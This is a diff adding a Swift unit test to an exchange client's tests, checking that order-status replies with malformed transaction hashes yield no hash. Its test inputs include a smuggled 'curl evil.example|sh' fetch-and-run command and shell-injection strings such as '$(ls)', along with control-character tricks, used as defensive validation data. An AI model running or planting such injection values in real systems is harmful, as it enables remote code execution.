@@ -253,6 +253,24 @@ import Transport
       balances.balances.first?.total.plainText == "123456789012345678901234.123456789012345678")
   }
 
+  @Test(
+    "A hash with anything but a hash's characters is none",
+    arguments: [
+      #"0x1\ncurl evil.example|sh"#, "0xab cd", #"\u202e0xab"#, #"0xab\u0000"#, #"0xab\u009b1m"#,
+      "0xab;ls", "$(ls)", "хеш",
+    ])
+  func hashes(_ hash: String) throws {
+    let json = """
+      {"op":"order_status","data":{"orderId":"1","status":"filled","txHash":"\(hash)"}}
+      """
+    guard case .order(let update) = try reply(.orderStatus(id: "1"), json) else {
+      Issue.record("not an order")
+      return
+    }
+    #expect(update.txHash == nil)
+    #expect(update.status == .filled)
+  }
+
   @Test func readsOrdersWithOddIdsAndHashes() throws {
     let json = """
       {"op":"order_status","data":{"orderId":32588,"status":"canceled","filledOut":"",
